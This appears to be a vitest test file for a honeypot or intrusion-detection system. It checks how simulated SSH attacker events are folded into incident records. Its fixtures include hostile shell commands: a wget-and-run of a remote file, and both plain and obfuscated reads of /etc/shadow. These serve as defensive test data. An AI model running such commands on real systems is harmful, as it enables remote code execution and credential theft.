import type { Event } from '@netsentinel/contracts/event';
import { Incident, INCIDENT_LIMITS } from '@netsentinel/contracts/incident';
import type { Detection } from '@netsentinel/contracts/detection';
import { createDetectors } from '@netsentinel/detect/detectors';
import { newActorState } from '@netsentinel/detect/actor-state';
import { moveEvent, movesOf, STORY_START, type Move, type MoveSketch } from '@netsentinel/detect/test-moves';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { foldEvent } from './fold.ts';
import { attack, tell } from './tell.fixture.ts';

const detectors = createDetectors();

describe('folding', () => {
  it('opens nothing for a bare connect, and takes it in once there is more', () => {
    expect(tell(movesOf([{ connect: true }, { disconnect: true }]))).toEqual([]);
    const [incident] = tell(
      movesOf([{ connect: true }, { disconnect: true }, { connect: true }, { forward: '192.0.2.1:25' }]),
    );
    expect(incident?.timeline.map((entry) => entry.kind)).toEqual(['connect', 'forward', 'detection']);
    expect(incident?.timeline[0]).toMatchObject({ title: 'Connected 2 times to ssh-1', count: 2, protocol: 'ssh' });
    expect(incident?.firstSeen).toBe(STORY_START + 1000);
    expect(incident?.title).toBe('SSH probe from 198.51.100.7, tunnelled connections');
  });

  it('opens on logins elsewhere only when they become an attack', () => {
    const login = { login: 'bob', password: 'x', decoy: false };
    expect(tell(movesOf([login, login, login, login]))).toEqual([]);
    const [incident] = tell(movesOf([login, login, login, login, login]));
    expect(incident).toMatchObject({ counts: { failures: 5 }, severity: 'medium' });
  });

  it('is as bad as the worst that was found by the same rule, and tells that', () => {
    const [first, second, third] = movesOf(['ls', 'ls', 'ls']);
    const found = (event: Event, severity: Detection['severity']): Detection => ({
      id: `one~${event.event.id}`,
      rule: { id: 'one', title: 'One' },
      actor: event.netsentinel.actor,
      time: Date.parse(event['@timestamp']),
      severity,
      confidence: 50,
      techniques: ['T1595'],
      tactics: ['TA0043'],
      summary: severity,
      evidence: [event.event.id],
      sourceVerified: true,
    });
    let incident = foldEvent(undefined, first!, [found(first!, 'low')], { before: [] });
    incident = foldEvent(incident, second!, [found(second!, 'high')], { before: [] });
    incident = foldEvent(incident, third!, [found(third!, 'medium')], { before: [] });
    expect(incident).toMatchObject({ severity: 'high', detections: [{ rule: 'one', severity: 'high', count: 3 }] });
    const told = incident!.timeline.filter(({ kind }) => kind === 'detection');
    expect(told.map(({ severity }) => severity)).toEqual(['low', 'high']);
  });

  it('changes nothing when the latest event comes again', () => {
    const events = movesOf(attack);
    const state = newActorState();
    let incident: Incident | undefined;
    for (const event of events) {
      const detections = detectors.process(event, state);
      incident = foldEvent(incident, event, detections, { before: [] });
      if (incident === undefined || detections.length === 0) continue;
      expect(foldEvent(incident, event, detections, { before: [] })).toBe(incident);
    }
    expect(incident?.counts.events).toBe(14);
  });

  it('leaves what it was given as it was', () => {
    const events = movesOf(attack);
    const [before] = tell(events.slice(0, 8));
    const copy = structuredClone(before);
    foldEvent(before, events[9]!, [], { before: [] });
    expect(before).toEqual(copy);
  });

  it('takes two halves of a session that a crash cut for one', () => {
    const [incident, ...others] = tell(
      movesOf([
        { login: 'root', password: 'x', ok: true },
        'uname',
        { command: 'id', after: 40 },
        { disconnect: true, after: 1 },
      ]).map((event, at) => {
        if (at >= 2) event.event.id = `ssh-1~m2~${at}`;
        return event;
      }),
    );
    expect(others).toEqual([]);
    expect(incident?.sessions).toHaveLength(1);
    expect(incident?.sessions[0]?.end).toBeDefined();
  });

  it('opens another after a long quiet, and after the first was closed', () => {
    const [first, second, ...others] = tell(movesOf(['uname', { command: 'id', after: 25 * 3600 }]));
    expect(others).toEqual([]);
    expect(second?.id).not.toBe(first?.id);
    expect(second?.counts.commands).toBe(1);
    const closed: Incident = { ...first!, status: 'closed' };
    expect(foldEvent(closed, movesOf(['ls'], 9)[0]!, [], { before: [] })?.id).not.toBe(closed.id);
    expect(foldEvent(closed, moveEvent({ connect: true }, STORY_START, 10), [], { before: [] })).toBeUndefined();
  });

  it('trusts unproven sources little', () => {
    const unproven = attack.map((move) => ({
      ...(typeof move === 'string' ? { command: move } : move),
      verified: false,
    }));
    const [incident] = tell(movesOf(unproven));
    expect(incident?.sourceVerified).toBe(false);
    expect(incident?.score).toBeLessThanOrEqual(50);
  });

  it('brings events that come late to their place', () => {
    const [incident] = tell(movesOf(['first', { command: 'third', after: 10 }, { command: 'second', after: -5 }]));
    expect(incident?.timeline.filter((entry) => entry.kind === 'command').map((entry) => entry.title)).toEqual([
      'first',
      'second',
      'third',
    ]);
    expect(incident?.lastSeen).toBe(STORY_START + 11_000);
  });

  it('tells many tunnels in one line, with what was sent through them', () => {
    const events = movesOf([{ forward: '192.0.2.1:25' }, { forward: '192.0.2.2:25' }, { forward: '192.0.2.2:25' }]);
    events[2]!.message = 'EHLO you\r\n';
    const [incident] = tell([...events, ...movesOf([{ outbound: '192.0.2.3:80' }], 9)]);
    expect(incident?.timeline.filter((entry) => entry.kind !== 'detection')).toMatchObject([
      {
        kind: 'forward',
        count: 2,
        title: 'Asked for 2 tunnels, the last to 192.0.2.2:25',
        detail: 'EHLO you\\u{d}\\u{a}',
      },
      { kind: 'outbound', title: 'Tried to connect to 192.0.2.3:80' },
    ]);
    expect(incident?.detections.find((row) => row.rule === 'port-forward')?.count).toBe(2);
  });

  it('adds to a line what its programs came to', () => {
    const [incident] = tell(movesOf(['a=sha; cat /etc/${a}dow', { program: ['cat', '/etc/shadow'] }]));
    expect(incident?.commands).toMatchObject([{ techniques: ['T1003.008'] }]);
    const [other] = tell(movesOf([{ program: ['cat', '/etc/shadow'] }]));
    expect(other?.commands).toEqual([]);
  });

  it('names the latest address of an IPv6 actor first', () => {
    const actor = '2001:db8::/64';
    const events = ['2001:db8::1', '2001:db8::2', '2001:db8::1'].map((ip, at) => {
      const event = moveEvent({ command: 'ls' }, STORY_START + at, at + 1, actor);
      event.source = { ip };
      return event;
    });
    expect(tell(events)[0]?.addresses).toEqual(['2001:db8::1', '2001:db8::2']);
  });

  const anything: fc.Arbitrary<MoveSketch> = fc.oneof(
    fc.record({ login: fc.string(), password: fc.string(), ok: fc.boolean() }),
    fc.record({
      command: fc.oneof(fc.string(), fc.constantFrom('uname', 'wget http://192.0.2.1/x; sh x', 'y'.repeat(5000))),
    }),
    fc.record({ program: fc.array(fc.string(), { maxLength: 3 }), session: fc.string({ maxLength: 3 }) }),
    fc.record({ download: fc.webUrl() }),
    fc.record({ upload: fc.string({ maxLength: 9000 }) }),
    fc.record({ write: fc.string() }),
    fc.record({ execute: fc.string() }),
    fc.record({ outbound: fc.constant('192.0.2.1:80') }),
    fc.record({ forward: fc.constant('192.0.2.1:25') }),
    fc.record({ handshake: fc.string(), session: fc.string({ maxLength: 3 }) }),
    fc.record({ connect: fc.constant(true) }),
    fc.record({ disconnect: fc.constant(true), session: fc.string({ maxLength: 3 }) }),
  );

  it('keeps schema and bounds whatever comes in whatever order', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(anything, fc.integer({ min: -100_000, max: 100_000 })), { maxLength: 60 }),
        (moves) => {
          const events = moves.map(([move, seconds], at) => moveEvent(move, STORY_START + seconds * 1000, at + 1));
          for (const incident of tell(events)) {
            expect(Incident.safeParse(incident).error).toBeUndefined();
            const times = incident.timeline.map((entry) => entry.time);
            expect([...times].sort((a, b) => a - b)).toEqual(times);
          }
        },
      ),
      { numRuns: 150 },
    );
  });

  it('keeps its bounds under a flood, and says what it left out', () => {
    const moves: Move[] = [];
    for (let n = 0; n < 700; n++)
      moves.push(
        { login: `u${n}`, password: `p${n}` },
        { command: `c${n}`, session: `s${n}`, after: 0 },
        { upload: `/tmp/${n}`, after: 0 },
      );
    const [incident] = tell(movesOf(moves));
    expect(Incident.safeParse(incident).error).toBeUndefined();
    for (const list of ['timeline', 'credentials', 'commands', 'files', 'sessions'] as const) {
      expect(incident?.[list]).toHaveLength(INCIDENT_LIMITS[list]);
      expect(incident?.omitted[list]).toBeGreaterThan(0);
    }
    expect(incident?.omitted['commands']).toBe(200);
    expect(incident?.counts).toMatchObject({ commands: 700, failures: 700, events: 2100 });
    expect(incident?.commands.at(-1)?.input).toBe('c699');
  });
});

describe("what is no attack by a person's word", () => {
  it('is over: what comes next is another story', () => {
    const [incident] = tell(movesOf(attack));
    const [event] = movesOf([{ login: 'root', password: 'x' }], 100);
    const next = foldEvent({ ...incident!, status: 'benign' }, event!, [], { before: [] });
    expect(next?.id).not.toBe(incident!.id);
  });

  it('opens no incident at a decoy but by what else was found', () => {
    const [event] = movesOf([{ login: 'root', password: 'x' }]);
    const detections = detectors.process(event!, newActorState());
    expect(detections.length).toBeGreaterThan(0);
    expect(foldEvent(undefined, event!, [], { before: [], isExcepted: true })).toBeUndefined();
    expect(foldEvent(undefined, event!, [], { before: [] })).toBeDefined();
    expect(foldEvent(undefined, event!, detections, { before: [], isExcepted: true })).toBeDefined();
  });
});
